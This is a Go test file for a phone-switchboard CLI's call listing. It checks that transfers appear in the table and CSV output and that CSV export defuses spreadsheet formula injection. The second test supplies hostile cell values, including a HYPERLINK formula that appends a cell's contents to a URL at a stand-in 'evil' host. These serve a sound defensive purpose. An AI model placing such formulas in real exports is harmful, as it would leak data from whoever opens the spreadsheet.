package cli

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"switchboard/store"
)

// A transferred call shows where it went, in the table and in the CSV.
func TestCallsShowTransfers(t *testing.T) {
	start := time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC)
	calls := []store.CallRecord{{ID: "x", Direction: store.Internal, Caller: "200", Callee: "201", AnsweredBy: "201",
		Start: start, Answer: start, End: start.Add(time.Minute), Disposition: store.Answered, Cause: "200 hung up",
		Transfers: []store.Transfer{{By: "201", To: "202", Result: store.Answered}, {By: "202", To: "203", Result: store.Voicemail}}}}
	var table bytes.Buffer
	if err := printCalls(&table, calls); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(table.String(), "201 → 202 → 203") {
		t.Errorf("table does not show the transfers:\n%s", table.String())
	}
	rows := csvRows(t, calls)
	if len(rows) != 2 || rows[0][len(rows[0])-1] != "transferred_to" || rows[1][len(rows[1])-1] != "202 203" {
		t.Errorf("CSV = %q", rows)
	}
}

// Whatever a phone chose (a Call-ID, the dialled string, its name) cannot
// run as a formula in a spreadsheet; numbers stay numbers.
func TestCallsCSVDefusesFormulas(t *testing.T) {
	start := time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC)
	calls := []store.CallRecord{{ID: `=HYPERLINK("http://evil/"&A1,"x")`, Direction: store.Internal, Caller: "+4930123456",
		CallerName: "@SUM(1)", Callee: `=HYPERLINK("//evil.example/x","y")`, Start: start, End: start,
		Disposition: store.Failed, Cause: "-1+1", AnsweredBy: "+2*3"}}
	rows := csvRows(t, calls)
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && cell != "+4930123456" {
			t.Errorf("column %s = %q", rows[0][i], cell)
		}
	}
	if rows[1][2] != "+4930123456" {
		t.Errorf("caller = %q, want the number as it is", rows[1][2])
	}
}

// csvRows is what `calls list --csv` writes for calls, read back.
func csvRows(t *testing.T, calls []store.CallRecord) [][]string {
	t.Helper()
	var out bytes.Buffer
	if err := writeCallsCSV(&out, calls); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}
